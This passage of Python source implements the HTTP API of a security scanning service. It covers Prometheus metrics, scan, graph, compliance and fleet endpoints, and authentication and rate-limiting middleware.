        lines.append("# TYPE agent_bom_latency_seconds_bucket counter")
        for name, pairs in buckets.items():
            for le, cumulative in pairs:
                lines.append(
                    f'agent_bom_latency_seconds_bucket{{name="{name}",le="{le:.9g}"}} '
                    f"{cumulative}"
                )
            lines.append(
                f'agent_bom_latency_seconds_bucket{{name="{name}",le="+Inf"}} '
                f'{hists[name]["count"]}'
            )
    # Queue-health gauges (only when a durable scan queue is wired): depth
    # by status, oldest eligible age, claim-to-start latency, redelivery
    # and dead-letter totals — the scoreboard the ROADMAP-4 fleet PR
    # regresses against.
    queue = pipeline._get_queue()
    if queue is not None:
        try:
            qs = queue.queue_stats()
        except Exception:  # noqa: BLE001 - a stats hiccup never fails /metrics
            logger.exception("queue_stats failed during /metrics")
            qs = None
        if qs is not None:
            lines.append("# TYPE agent_bom_queue_depth gauge")
            for status_name, n in sorted(qs["depth"].items()):
                lines.append(f'agent_bom_queue_depth{{status="{status_name}"}} {n}')
            lines.append("# TYPE agent_bom_queue_oldest_eligible_age_seconds gauge")
            lines.append(
                f"agent_bom_queue_oldest_eligible_age_seconds {qs['oldest_eligible_age_s']}"
            )
            lines.append("# TYPE agent_bom_queue_claim_latency_seconds gauge")
            lines.append(
                f'agent_bom_queue_claim_latency_seconds{{stat="avg"}} '
                f"{qs['claim_latency_avg_s']}"
            )
            lines.append(
                f'agent_bom_queue_claim_latency_seconds{{stat="max"}} '
                f"{qs['claim_latency_max_s']}"
            )
            lines.append("# TYPE agent_bom_queue_redeliveries_total counter")
            lines.append(f"agent_bom_queue_redeliveries_total {qs['redeliveries']}")
            lines.append("# TYPE agent_bom_queue_dead_letter_total counter")
            lines.append(f"agent_bom_queue_dead_letter_total {qs['dead_letter']}")
            # Per-shard observatory (PR 20): depth + oldest-eligible age
            # per queue shard — the gauge pair that shows the write
            # convoy actually split instead of asserting it did.
            if qs.get("shards"):
                lines.append("# TYPE agent_bom_queue_shard_depth gauge")
                for sh in qs["shards"]:
                    for status_name, n in sorted((sh.get("depth") or {}).items()):
                        lines.append(
                            f'agent_bom_queue_shard_depth{{shard="{sh["shard"]}"'
                            f',status="{status_name}"}} {n}'
                        )
                lines.append(
                    "# TYPE agent_bom_queue_shard_oldest_eligible_age_seconds gauge"
                )
                for sh in qs["shards"]:
                    lines.append(
                        "agent_bom_queue_shard_oldest_eligible_age_seconds"
                        f'{{shard="{sh["shard"]}"}} {sh["oldest_eligible_age_s"]}'
                    )
    # DB statement observatory (PR 19): per-(store, statement-family)
    # latency totals with lock wait EXCLUDED (waits are their own series),
    # per-store lock-wait/rows-written counters, and transaction hold
    # times — the write-convoy evidence the load bench's contention block
    # aggregates. Families are bounded: verb × table per store.
    from agent_bom_trn.db import instrument as db_instrument  # noqa: PLC0415

    db = db_instrument.db_stats()
    if db["enabled"] and db["stores"]:
        stmt_sum, stmt_count, txn = [], [], []
        for name, snap in sorted(db["statements"].items()):
            store_name, _, family = name[len("db:"):].partition(":")
            if family == "txn_hold":
                txn.append((store_name, snap))
                continue
            labels = f'store="{store_name}",family="{family}"'
            stmt_sum.append(f"agent_bom_db_statement_seconds_sum{{{labels}}} {snap['sum_s']}")
            stmt_count.append(f"agent_bom_db_statement_seconds_count{{{labels}}} {snap['count']}")
        if stmt_sum:
            lines.append("# TYPE agent_bom_db_statement_seconds summary")
            lines.extend(stmt_sum)
            lines.extend(stmt_count)
        if txn:
            lines.append("# TYPE agent_bom_db_txn_hold_seconds summary")
            for store_name, snap in txn:
                lines.append(
                    f'agent_bom_db_txn_hold_seconds_sum{{store="{store_name}"}} {snap["sum_s"]}'
                )
                lines.append(
                    f'agent_bom_db_txn_hold_seconds_count{{store="{store_name}"}} {snap["count"]}'
                )
        for family_name, field in (
            ("agent_bom_db_statements_total", "statements"),
            ("agent_bom_db_rows_written_total", "rows_written"),
            ("agent_bom_db_lock_waits_total", "lock_waits"),
            ("agent_bom_db_lock_wait_seconds_total", "lock_wait_s_total"),
            ("agent_bom_db_lock_timeouts_total", "lock_timeouts"),
        ):
            lines.append(f"# TYPE {family_name} counter")
            for store_name, counters in sorted(db["stores"].items()):
                lines.append(f'{family_name}{{store="{store_name}"}} {counters[field]}')
    # Fleet gauges: registry totals + per-worker lifetime counters
    # (cardinality bounded by the registry, which the liveness window and
    # the fallback's eviction bound in turn).
    fleet_items = _fleet_worker_items()
    lines.append("# TYPE agent_bom_fleet_workers_total gauge")
    lines.append(f"agent_bom_fleet_workers_total {len(fleet_items)}")
    lines.append("# TYPE agent_bom_fleet_workers_live gauge")
    lines.append(
        f"agent_bom_fleet_workers_live {sum(1 for w in fleet_items if w.get('live'))}"
    )
    if fleet_items:
        for family, field in (
            ("agent_bom_fleet_worker_claims_total", "claims"),
            ("agent_bom_fleet_worker_completions_total", "completions"),
            ("agent_bom_fleet_worker_failures_total", "failures"),
            ("agent_bom_fleet_worker_slices_reused_total", "slices_reused"),
            ("agent_bom_fleet_worker_slices_rescanned_total", "slices_rescanned"),
        ):
            lines.append(f"# TYPE {family} counter")
            for w in fleet_items:
                lines.append(f'{family}{{worker="{w["worker_id"]}"}} {w.get(field, 0)}')
    # Event-bus counters: published/delivered/dropped volumes and the
    # live SSE subscriber count.
    bus = event_bus.counters()
    lines.append("# TYPE agent_bom_event_bus_published_total counter")
    lines.append(f"agent_bom_event_bus_published_total {bus['published']}")
    lines.append("# TYPE agent_bom_event_bus_delivered_total counter")
    lines.append(f"agent_bom_event_bus_delivered_total {bus['delivered']}")
    lines.append("# TYPE agent_bom_event_bus_dropped_total counter")
    lines.append(f"agent_bom_event_bus_dropped_total {bus['dropped']}")
    lines.append("# TYPE agent_bom_event_bus_subscribers gauge")
    lines.append(f"agent_bom_event_bus_subscribers {bus['subscribers']}")
    # SLO surface: burn-rate + ok gauges (with trace exemplars where an
    # over-threshold request was traced).
    lines.extend(obs_slo.metrics_lines())
    # Process memory: live RSS plus the best known peak (watermark window
    # when one is open, getrusage lifetime high-water mark otherwise).
    lines.append("# TYPE agent_bom_process_rss_mb gauge")
    lines.append(f"agent_bom_process_rss_mb {round(obs_mem.current_rss_mb(), 2)}")
    lines.append("# TYPE agent_bom_process_peak_rss_mb gauge")
    lines.append(f"agent_bom_process_peak_rss_mb {obs_mem.peak_rss_mb()}")
    return 200, "\n".join(lines) + "\n"


@route("GET", "/v1/engine/dispatch")
def get_engine_dispatch(ctx: RequestContext):
    """The dispatch observatory: ledger roll-up, live calibration audit,
    counterfactual decline pricing, and the most recent declined
    decisions with their full evidence (geometry, per-rung predicted
    costs, taxonomy reasons, shadow outcomes). ``limit`` caps the
    recent-declines list (default 20)."""
    from agent_bom_trn.obs import calibration as obs_calibration  # noqa: PLC0415
    from agent_bom_trn.obs import dispatch_ledger as obs_ledger  # noqa: PLC0415

    try:
        limit = int(ctx.q("limit", "20"))
    except ValueError:
        raise BadRequest("limit must be an integer") from None
    decisions = obs_ledger.decisions()
    cal = obs_calibration.audit(decisions)
    declined = [d.to_dict() for d in decisions if d.reason or d.declines]
    recent_declines = declined[-limit:] if limit > 0 else []
    return 200, {
        "shadow_rate": config.DISPATCH_SHADOW_RATE,
        "ledger": obs_ledger.summary(),
        "calibration": cal,
        "time_lost": obs_calibration.time_lost_to_declines(decisions, cal),
        "recent_declines": recent_declines,
    }


@route("GET", "/v1/slo")
def get_slo(ctx: RequestContext):
    """The operator SLO table, evaluated live: per-endpoint multi-window
    burn rates, ok verdicts, observed quantiles, and trace exemplars."""
    return 200, {
        "max_burn_rate": config.SLO_MAX_BURN_RATE,
        "windows_s": {"fast": config.SLO_FAST_WINDOW_S, "slow": config.SLO_SLOW_WINDOW_S},
        "slos": obs_slo.status(),
    }


@route("GET", "/v1/profile")
def get_profile(ctx: RequestContext):
    """On-demand sampling-profiler capture: blocks this handler thread for
    ``seconds`` (default 2, capped at AGENT_BOM_PROFILE_MAX_SECONDS) while
    the sampler observes every OTHER thread, then returns the summary, a
    speedscope-loadable document, and the resource summary. One capture at
    a time process-wide — a second concurrent request gets 409, never a
    queue (same breaker-style rejection the resilience layer uses)."""
    raw_seconds = ctx.q("seconds", "2")
    raw_hz = ctx.q("hz")
    try:
        seconds = float(raw_seconds)
        hz = float(raw_hz) if raw_hz else None
    except ValueError:
        raise BadRequest("seconds/hz must be numbers") from None
    if seconds <= 0 or (hz is not None and hz <= 0):
        raise BadRequest("seconds/hz must be positive")
    try:
        profile = obs_profiler.capture(seconds, hz=hz)
    except obs_profiler.CaptureBusy as exc:
        return 409, {"error": str(exc)}
    return 200, {
        **profile.summary(),
        "tracing_enabled": obs_trace.is_enabled(),
        "speedscope": obs_profiler.speedscope_document(profile, name="api:/v1/profile"),
        "resources": obs_mem.resource_summary(),
    }


@route("GET", "/v1/traces/latest")
def traces_latest(ctx: RequestContext):
    """Most recently completed trace as a span tree (JSON). 404 until a
    trace exists — tracing is off unless AGENT_BOM_TRACE=1 (or a --trace
    run shares the process)."""
    spans = obs_trace.latest_trace()
    if not spans:
        return 404, {
            "error": "no completed traces",
            "hint": "enable tracing with AGENT_BOM_TRACE=1 (ring: AGENT_BOM_TRACE_RING)",
        }
    return 200, {
        "trace_id": spans[0].trace_id,
        "span_count": len(spans),
        "tracing_enabled": obs_trace.is_enabled(),
        "spans": [s.to_dict() for s in spans],
    }


@route("GET", "/v1/db/stats")
def get_db_stats(ctx: RequestContext):
    """The DB statement observatory document: per-store counters
    (statements, rows written, lock waits + total blocked seconds, lock
    timeouts) and per-statement-family latency histograms (lock wait
    excluded — the blocked time is its own counter, so a slow statement
    and a convoyed one are distinguishable)."""
    from agent_bom_trn.db import instrument as db_instrument  # noqa: PLC0415

    return 200, db_instrument.db_stats()


@route("GET", "/v1/scans/(?P<job_id>[0-9a-f-]+)/timeline")
def get_scan_timeline(ctx: RequestContext):
    """Critical-path blame for one scan from the live span ring:
    submit→pickup queue wait, per-stage compute, checkpoint IO, DB lock
    wait, webhook notify, idle remainder (obs/critical_path.py). 404
    until the job's spans exist — requires tracing (AGENT_BOM_TRACE=1)
    and only sees this process's ring; cross-process runs use the JSONL
    export + scripts/scan_blame.py instead."""
    job_id = ctx.params["job_id"]
    spans = [s.to_dict() for s in obs_trace.completed_spans()]
    from agent_bom_trn.obs import critical_path  # noqa: PLC0415

    timeline = critical_path.analyze_scan(spans, job_id=job_id)
    if timeline is None:
        return 404, {
            "error": "no spans for job",
            "hint": "enable tracing with AGENT_BOM_TRACE=1; the scan must have"
                    " run in this process (merged exports: scripts/scan_blame.py)",
        }
    return 200, {"job_id": job_id, "tracing_enabled": obs_trace.is_enabled(),
                 "timeline": timeline}


@route("POST", "/v1/scan")
def post_scan(ctx: RequestContext):
    request = ctx.json()
    job_id = pipeline.submit_scan_job(request, tenant_id=ctx.tenant_id)
    return 202, {"job_id": job_id, "status": "queued"}


@route("GET", "/v1/scan/jobs")
def list_jobs(ctx: RequestContext):
    return 200, {"jobs": get_job_store().list_jobs(tenant_id=ctx.tenant_id)}


@route("GET", "/v1/scan/(?P<job_id>[0-9a-f-]+)")
def get_job(ctx: RequestContext):
    job = get_job_store().get_job(ctx.params["job_id"])
    if job is None or job["tenant_id"] != ctx.tenant_id:
        return 404, {"error": "job not found"}
    job["events"] = get_job_store().events_since(ctx.params["job_id"])
    return 200, job


@route("GET", "/v1/scan/(?P<job_id>[0-9a-f-]+)/report")
def get_job_report(ctx: RequestContext):
    job = get_job_store().get_job(ctx.params["job_id"], include_report=True)
    if job is None or job["tenant_id"] != ctx.tenant_id:
        return 404, {"error": "job not found"}
    if "report" not in job:
        return 409, {"error": f"job status is {job['status']}; no report yet"}
    return 200, job["report"]


@route("POST", "/v1/scan/(?P<job_id>[0-9a-f-]+)/cancel")
def cancel_job(ctx: RequestContext):
    job = get_job_store().get_job(ctx.params["job_id"])
    if job is None or job["tenant_id"] != ctx.tenant_id:
        return 404, {"error": "job not found"}
    ok = get_job_store().request_cancel(ctx.params["job_id"])
    return (202, {"status": "cancel requested"}) if ok else (409, {"error": "not cancellable"})


@route("POST", "/v1/runtime/events")
def post_runtime_events(ctx: RequestContext):
    """Behavioral edge ingest from the event-collector sidecar
    (reference: runtime/event-collector forward contract)."""
    body = ctx.json()
    if not isinstance(body, dict):
        return 400, {"error": "body must be {events: [...]}"}
    events = body.get("events")
    if not isinstance(events, list):
        return 400, {"error": "body must be {events: [...]}"}
    store = get_graph_store()
    from agent_bom_trn.graph.container import UnifiedEdge, UnifiedGraph, UnifiedNode
    from agent_bom_trn.graph.types import EntityType, RelationshipType

    with _runtime_events_lock:
        # CAS retry: a scan may persist a new snapshot between our read and
        # write; re-apply events onto the fresh snapshot instead of clobbering.
        for _attempt in range(3):
            base_id = store.current_snapshot_id(ctx.tenant_id)
            base = store.load_graph(tenant_id=ctx.tenant_id)
            if base is None or base_id is None:
                # Nothing to attach to yet; collector retries later.
                return 503, {
                    "error": "no graph snapshot yet; retry after the first scan",
                    "accepted": 0,
                }
            # Copy-mutate: the cached graph object is shared with every
            # concurrent reader thread.
            graph = UnifiedGraph.from_dict(base.to_dict())
            accepted = 0
            dropped = 0
            for event in events[:10_000]:
                if not isinstance(event, dict):
                    dropped += 1
                    continue
                principal = str(event.get("principal") or "")
                resource = str(event.get("resource") or "")
                rel_raw = str(event.get("relationship") or "accessed")
                if not principal or not resource:
                    dropped += 1
                    continue
                accepted += 1
                rel = RelationshipType.INVOKED if rel_raw == "invoked" else RelationshipType.ACCESSED
                principal_id = f"principal:{principal}"
                resource_id = f"resource:{resource}"
                graph.add_node(
                    UnifiedNode(id=principal_id, entity_type=EntityType.USER, label=principal)
                )
                graph.add_node(
                    UnifiedNode(id=resource_id, entity_type=EntityType.CLOUD_RESOURCE, label=resource)
                )
                graph.add_edge(
                    UnifiedEdge(
                        source=principal_id,
                        target=resource_id,
                        relationship=rel,
                        evidence={"action": event.get("action"), "ts": event.get("ts")},
                    )
                )
            dropped += max(len(events) - 10_000, 0)
            if not accepted:
                break
            # In-place current-snapshot update (no history row per batch);
            # False ⇒ a scan won the race — reload and re-apply.
            if store.replace_current_snapshot(
                graph, tenant_id=ctx.tenant_id, expected_snapshot_id=base_id
            ):
                break
        else:
            return 503, {"error": "snapshot contention; retry", "accepted": 0}
    return 202, {"accepted": accepted, "dropped": dropped}


@route("GET", "/v1/findings")
def list_findings(ctx: RequestContext):
    findings = get_findings_store(tenant_id=ctx.tenant_id)
    severity = ctx.q("severity")
    if severity:
        findings = [f for f in findings if f.get("severity") == severity]
    limit = ctx.q_int("limit", 100)
    offset = ctx.q_int("offset", 0)
    return 200, {
        "total": len(findings),
        "findings": findings[offset : offset + limit],
    }


@route("GET", "/v1/graph")
def get_graph(ctx: RequestContext):
    store = get_graph_store()
    graph = store.load_graph(tenant_id=ctx.tenant_id)
    if graph is None:
        return 404, {"error": "no graph snapshot; run a scan first"}
    limit = ctx.q_int("limit", 100)
    doc = graph.to_dict()
    doc["nodes"] = doc["nodes"][:limit]
    doc["edges"] = doc["edges"][: limit * 2]
    return 200, doc


@route("GET", "/v1/graph/search")
def graph_search(ctx: RequestContext):
    q = ctx.q("q")
    if not q:
        return 400, {"error": "missing q parameter"}
    limit = ctx.q_int("limit", 50)
    return 200, {"results": get_graph_store().search_nodes(q, tenant_id=ctx.tenant_id, limit=limit)}


@route("GET", "/v1/graph/node/(?P<node_id>.+)")
def graph_node(ctx: RequestContext):
    node = get_graph_store().get_node(ctx.params["node_id"], tenant_id=ctx.tenant_id)
    if node is None:
        return 404, {"error": "node not found"}
    return 200, node


@route("GET", "/v1/graph/paths")
def graph_paths(ctx: RequestContext):
    graph = get_graph_store().load_graph(tenant_id=ctx.tenant_id)
    if graph is None:
        return 404, {"error": "no graph snapshot"}
    return 200, {
        "attack_paths": [p.to_dict() for p in graph.attack_paths],
        "campaigns": [c.to_dict() for c in graph.campaigns],
        "analysis_status": graph.analysis_status,
    }


@route("GET", "/v1/graph/rollup")
def graph_rollup(ctx: RequestContext):
    # Served off the store-backed lazy view: rollup streams one typed
    # edge pass + one node pass, so the estate is never hydrated whole.
    from agent_bom_trn.graph.rollup import compute_rollup, rollup_roots
    from agent_bom_trn.graph.store_graph import StoreBackedUnifiedGraph

    try:
        graph = StoreBackedUnifiedGraph(get_graph_store(), tenant_id=ctx.tenant_id)
    except ValueError:
        return 404, {"error": "no graph snapshot"}
    rollup = compute_rollup(graph)
    return 200, {
        "roots": [r.to_dict() for r in rollup_roots(rollup, graph)],
        "total_nodes": len(rollup),
    }


@route("GET", "/v1/compliance/(?P<framework>[a-z0-9_]+)/report")
def compliance_report(ctx: RequestContext):
    """Per-framework control coverage over the tenant's findings
    (operator SLO surface: BASELINE.md '/v1/compliance/{fw}/report')."""
    from agent_bom_trn.compliance import FRAMEWORKS

    framework = ctx.params["framework"]
    known = {slug: (field, display, version) for field, slug, display, version in FRAMEWORKS}
    if framework not in known:
        return 404, {"error": f"unknown framework {framework}", "supported": sorted(known)}
    findings = get_findings_store(tenant_id=ctx.tenant_id)
    controls: dict[str, int] = {}
    tagged = 0
    field_name = known[framework][0]
    legacy_field = field_name  # finding dicts carry the same per-framework arrays
    for f in findings:
        tags = f.get(legacy_field) or []
        if tags:
            tagged += 1
            for tag in tags:
                controls[tag] = controls.get(tag, 0) + 1
    return 200, {
        "framework": framework,
        "display_name": known[framework][1],
        "version": known[framework][2],
        "total_findings": len(findings),
        "tagged_findings": tagged,
        "controls": controls,
    }


@route("POST", "/v1/fleet/sync")
def fleet_sync(ctx: RequestContext):
    """Endpoint observation ingest + reconciliation (SLO: heartbeat p99),
    plus worker heartbeat ingest into the fleet registry.

    ``workers`` entries carry counter DELTAS (claims/completions/failures
    since the worker's previous sync), the same contract as the in-process
    claim-loop heartbeats — the registry accumulates them."""
    body = ctx.json()
    if not isinstance(body, dict):
        return 400, {"error": "body must be {observations: [...], workers: [...]}"}
    observations = body.get("observations")
    workers = body.get("workers")
    if observations is None and workers is None:
        return 400, {"error": "body must carry observations and/or workers lists"}
    if observations is not None and not isinstance(observations, list):
        return 400, {"error": "observations must be a list"}
    if workers is not None and not isinstance(workers, list):
        return 400, {"error": "workers must be a list"}
    result: dict[str, Any] = {}
    if observations is not None:
        reconciler = _get_fleet_reconciler(ctx.tenant_id)
        result = reconciler.reconcile(observations[:10_000])
    if workers is not None:
        result["workers_synced"] = _ingest_worker_heartbeats(workers[:1_000])
    return 200, result


@route("GET", "/v1/fleet")
def fleet_inventory(ctx: RequestContext):
    """Reconciled endpoint inventory + the worker-fleet/queue observatory
    summary (fleet_workers registry and queue-health stats when a durable
    queue is wired, in-memory sync fallback otherwise)."""
    doc = _get_fleet_reconciler(ctx.tenant_id).to_dict()
    items = _fleet_worker_items()
    doc["workers"] = {
        "total": len(items),
        "live": sum(1 for w in items if w.get("live")),
        "liveness_window_s": 3.0 * config.QUEUE_HEARTBEAT_S,
        "items": items[:200],
    }
    queue = pipeline._get_queue()
    if queue is not None:
        try:
            doc["queue"] = queue.queue_stats()
        except Exception:  # noqa: BLE001 - stats never break the inventory
            logger.exception("queue_stats failed")
    return 200, doc


@route("GET", "/v1/queue/dead_letter")
def list_dead_letters(ctx: RequestContext):
    """Dead-letter inbox: jobs/slices that exhausted their redelivery
    budget, newest first — what an operator triages before deciding to
    requeue."""
    queue = pipeline._get_queue()
    if queue is None:
        return 404, {"error": "no durable scan queue configured"}
    try:
        limit = max(1, min(int(ctx.q("limit") or 50), 500))
    except (TypeError, ValueError):
        limit = 50
    return 200, {"dead_letters": queue.list_dead_letters(limit=limit)}


@route("POST", "/v1/queue/dead_letter/(?P<job_id>[A-Za-z0-9:._-]+)/requeue")
def requeue_dead_letter(ctx: RequestContext):
    """Admin dead-letter recovery (PR 20): put one dead-lettered item
    back on its shard with a reset attempt budget. The row keeps its
    request payload AND its persisted trace context, so the revived
    delivery lands in the same trace the original submission started —
    an operator intervention shows up as one more redelivery, not a new
    job. 409 when the id exists but is not dead-lettered (racing
    requeues are first-wins)."""
    queue = pipeline._get_queue()
    if queue is None:
        return 404, {"error": "no durable scan queue configured"}
    job_id = ctx.params["job_id"]
    if queue.requeue_dead_letter(job_id):
        return 200, {"job_id": job_id, "status": "queued", "attempts": 0}
    return 409, {
        "error": f"{job_id} is not in the dead-letter state (already requeued,"
        " still running, or unknown)"
    }


_fleet_reconcilers: dict[str, Any] = {}
# Fallback worker registry for deployments with no durable queue: worker
# heartbeats POSTed to /v1/fleet/sync land here (process-local, bounded).
_worker_registry: dict[str, dict[str, Any]] = {}


def _ingest_worker_heartbeats(workers: list[Any]) -> int:
    """Apply worker heartbeat deltas to the durable fleet_workers table
    (queue mode) or the in-memory fallback registry."""
    queue = pipeline._get_queue()
    synced = 0
    for w in workers:
        if not isinstance(w, dict) or not w.get("worker_id"):
            continue
        worker_id = str(w["worker_id"])
        pid = w.get("pid")
        host = w.get("host")
        job_id = w.get("current_job")
        stage = w.get("current_stage")
        try:
            claims = int(w.get("claims") or 0)
            completions = int(w.get("completions") or 0)
            failures = int(w.get("failures") or 0)
            slices_reused = int(w.get("slices_reused") or 0)
            slices_rescanned = int(w.get("slices_rescanned") or 0)
        except (TypeError, ValueError):
            continue
        if queue is not None:
            try:
                queue.worker_heartbeat(
                    worker_id, pid=pid, host=host, job_id=job_id, stage=stage,
                    claims=claims, completions=completions, failures=failures,
                    slices_reused=slices_reused, slices_rescanned=slices_rescanned,
                )
            except Exception:  # noqa: BLE001 - registry is a scoreboard
                logger.exception("worker_heartbeat failed for %s", worker_id)
                continue
        else:
            now = time.time()
            with _runtime_events_lock:
                entry = _worker_registry.setdefault(
                    worker_id,
                    {
                        "worker_id": worker_id, "pid": None, "host": None,
                        "current_job": None, "current_stage": None,
                        "claims": 0, "completions": 0, "failures": 0,
                        "slices_reused": 0, "slices_rescanned": 0,
                        "first_seen": now, "last_seen": now,
                    },
                )
                if pid is not None:
                    entry["pid"] = pid
                if host is not None:
                    entry["host"] = host
                entry["current_job"] = job_id
                entry["current_stage"] = stage
                entry["claims"] += claims
                entry["completions"] += completions
                entry["failures"] += failures
                entry["slices_reused"] = entry.get("slices_reused", 0) + slices_reused
                entry["slices_rescanned"] = entry.get("slices_rescanned", 0) + slices_rescanned
                entry["last_seen"] = now
                if len(_worker_registry) > 10_000:
                    # Bounded: evict the stalest half if someone floods ids.
                    for stale_id in sorted(
                        _worker_registry, key=lambda k: _worker_registry[k]["last_seen"]
                    )[: len(_worker_registry) // 2]:
                        _worker_registry.pop(stale_id, None)
        synced += 1
    return synced


def _fleet_worker_items() -> list[dict[str, Any]]:
    """Worker rows with computed liveness, newest heartbeat first —
    durable registry when a queue is wired, sync fallback otherwise."""
    queue = pipeline._get_queue()
    if queue is not None:
        try:
            return queue.workers()
        except Exception:  # noqa: BLE001
            logger.exception("fleet workers query failed")
            return []
    now = time.time()
    liveness_s = 3.0 * config.QUEUE_HEARTBEAT_S
    with _runtime_events_lock:
        entries = [dict(e) for e in _worker_registry.values()]
    for e in entries:
        e["age_s"] = round(now - e["last_seen"], 3)
        e["live"] = (now - e["last_seen"]) <= liveness_s
    entries.sort(key=lambda e: e["last_seen"], reverse=True)
    return entries


def _get_fleet_reconciler(tenant_id: str):
    from agent_bom_trn.fleet import FleetReconciler

    with _runtime_events_lock:
        if tenant_id not in _fleet_reconcilers:
            _fleet_reconcilers[tenant_id] = FleetReconciler()
        return _fleet_reconcilers[tenant_id]


@route("GET", "/v1/graph/snapshots")
def graph_snapshots(ctx: RequestContext):
    return 200, {"snapshots": get_graph_store().snapshots(tenant_id=ctx.tenant_id)}


@route("GET", "/v1/graph/diff")
def graph_diff(ctx: RequestContext):
    """Snapshot diff: ?from=&to= (or the legacy ?old=&new= aliases) pick
    explicit snapshot ids; with neither, the two newest are diffed. The
    response carries the PR-6 id lists plus per-type breakdowns and a
    blast-radius delta summary."""
    store = get_graph_store()
    snaps = store.snapshots(tenant_id=ctx.tenant_id, limit=2)
    old_q = ctx.q("from") or ctx.q("old")
    new_q = ctx.q("to") or ctx.q("new")
    if bool(old_q) != bool(new_q):
        # Half a pair must not silently fall back to the two-newest
        # default — that returns a plausible but unrequested diff.
        raise BadRequest("provide both 'from' and 'to' (or neither for the two newest)")
    if old_q and new_q:
        try:
            old_id, new_id = int(old_q), int(new_q)
        except ValueError:
            raise BadRequest("from/to must be snapshot integers") from None
    elif len(snaps) >= 2:
        new_id, old_id = snaps[0]["id"], snaps[1]["id"]
    else:
        return 409, {"error": "need two snapshots to diff"}
    return 200, store.diff_snapshots(old_id, new_id)


@route("POST", "/v1/graph/query")
def graph_query(ctx: RequestContext):
    """Bounded traversal: {start, max_depth, max_nodes} → subgraph."""
    body = ctx.json()
    start = body.get("start")
    if not start:
        return 400, {"error": "missing start node id"}
    graph = get_graph_store().load_graph(tenant_id=ctx.tenant_id)
    if graph is None:
        return 404, {"error": "no graph snapshot"}
    if start not in graph.nodes:
        return 404, {"error": "start node not found"}
    try:
        max_depth = min(int(body.get("max_depth", 2)), 6)
        max_nodes = min(int(body.get("max_nodes", 200)), 1000)
    except (TypeError, ValueError):
        raise BadRequest("max_depth/max_nodes must be integers") from None
    sub = graph.traverse_subgraph(start, max_depth=max_depth, max_nodes=max_nodes)
    return 200, sub.to_dict()


# ── HTTP plumbing ───────────────────────────────────────────────────────


class ApiHandler(BaseHTTPRequestHandler):
    server_version = f"agent-bom-trn/{__version__}"
    key_registry: APIKeyRegistry | None = None
    rate_limiter: RateLimiter | None = None

    def log_message(self, fmt: str, *args: Any) -> None:
        logger.debug("%s %s", self.address_string(), fmt % args)

    def _deny(self, status: int, message: str) -> None:
        self._respond(status, {"error": message})

    def _respond(
        self,
        status: int,
        payload: dict[str, Any] | str,
        extra_headers: dict[str, str] | None = None,
    ) -> None:
        if isinstance(payload, str):
            body = payload.encode("utf-8")
            ctype = "text/plain; charset=utf-8"
        else:
            body = json.dumps(payload, default=str).encode("utf-8")
            ctype = "application/json"
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for key, value in (extra_headers or {}).items():
            self.send_header(key, value)
        self.end_headers()
        self.wfile.write(body)

    def _handle(self, method: str) -> None:
        parsed = urlparse(self.path)
        # Decode ONCE, before any middleware: auth and routing must see the
        # same path, or percent-encoding ("/%761/...") bypasses the auth gate.
        decoded_path = unquote(parsed.path)
        headers = {k.lower(): v for k, v in self.headers.items()}
        client_ip = self.client_address[0]

        # Middleware chain: rate limit → auth → body cap (middleware.py order).
        if self.rate_limiter is not None and not self.rate_limiter.allow(client_ip):
            self.send_response(429)
            self.send_header("Retry-After", "60")
            self.send_header("Content-Type", "application/json")
            body = b'{"error": "rate limit exceeded"}'
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        auth = NO_AUTH_CONTEXT
        if decoded_path.startswith("/v1/") and self.key_registry and self.key_registry.enabled:
            supplied = headers.get("x-api-key") or headers.get("authorization", "").removeprefix(
                "Bearer "
            )
            found = self.key_registry.authenticate(supplied) if supplied else None
            if found is None:
                self._deny(401, "invalid or missing API key")
                return
            auth = found
            if not auth.allows(method, decoded_path):
                self._deny(403, f"role '{auth.role}' may not {method} {decoded_path}")
                return
        length = int(headers.get("content-length") or 0)
        if length > config.API_MAX_BODY_BYTES:
            self._deny(413, "request body too large")
            return
        body = self.rfile.read(length) if length else b""

        # SSE endpoints handled outside the JSON router. Both path forms
        # are served: /v1/scan/{id}/events (original) and
        # /v1/scans/{id}/events (reference-parity plural).
        sse = re.match(r"^/v1/scans?/([0-9a-f-]+)/events$", decoded_path)
        if method == "GET" and sse:
            try:
                last_event_id = int(headers.get("last-event-id") or 0)
            except ValueError:
                last_event_id = 0
            self._stream_events(
                sse.group(1),
                auth.resolve_tenant(headers.get("x-tenant-id")),
                last_event_id=last_event_id,
            )
            return
        if method == "GET" and decoded_path == "/v1/events":
            query = parse_qs(parsed.query)
            self._stream_firehose(
                auth,
                tenant_q=(query.get("tenant") or [""])[0],
                status_q=(query.get("status") or [""])[0],
            )
            return

        for route_method, pattern, raw_pattern, handler in _ROUTES:
            if route_method != method:
                continue
            match = pattern.match(decoded_path)
            if not match:
                continue
            ctx = RequestContext(
                method=method,
                path=parsed.path,
                query=parse_qs(parsed.query),
                body=body,
                headers=headers,
                params=match.groupdict(),
                client_ip=client_ip,
                auth=auth,
            )
            # One span + one latency-histogram sample per request, keyed
            # by the route PATTERN (bounded cardinality). Error replies
            # flow through the same path so p99 includes failures. An
            # inbound ``traceparent`` header is adopted — the handler span
            # parents under the caller's span instead of rooting a fresh
            # trace — and the response echoes the active context so
            # clients can correlate without reading the export.
            route_key = f"{method} {raw_pattern}"
            t0 = time.perf_counter()
            with propagation.activate(propagation.extract(headers)):
                with obs_span("api:" + route_key, attrs={"path": decoded_path}) as sp:
                    try:
                        status, payload = handler(ctx)
                    except json.JSONDecodeError:
                        status, payload = 400, {"error": "invalid JSON body"}
                    except BadRequest as exc:
                        status, payload = 400, {"error": str(exc)}
                    except Exception as exc:  # noqa: BLE001 — route errors → sanitized 500
                        logger.exception("route %s %s failed", method, parsed.path)
                        status, payload = 500, {
                            "error": f"internal error: {type(exc).__name__}"
                        }
                    sp.set("status", status)
                    response_tp = propagation.current_traceparent()
            seconds = time.perf_counter() - t0
            observe("api:" + route_key, seconds)
            obs_slo.note_request("api:" + route_key, seconds, getattr(sp, "trace_id", None))
            self._respond(
                status,
                payload,
                extra_headers={propagation.HEADER: response_tp} if response_tp else None,
            )
            return
        self._deny(404, "not found")

    def _sse_begin(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-cache")
        self.end_headers()

    def _sse_write_event(self, event_id: Any, name: str, data: str) -> None:
        self.wfile.write(f"id: {event_id}\nevent: {name}\ndata: {data}\n\n".encode())
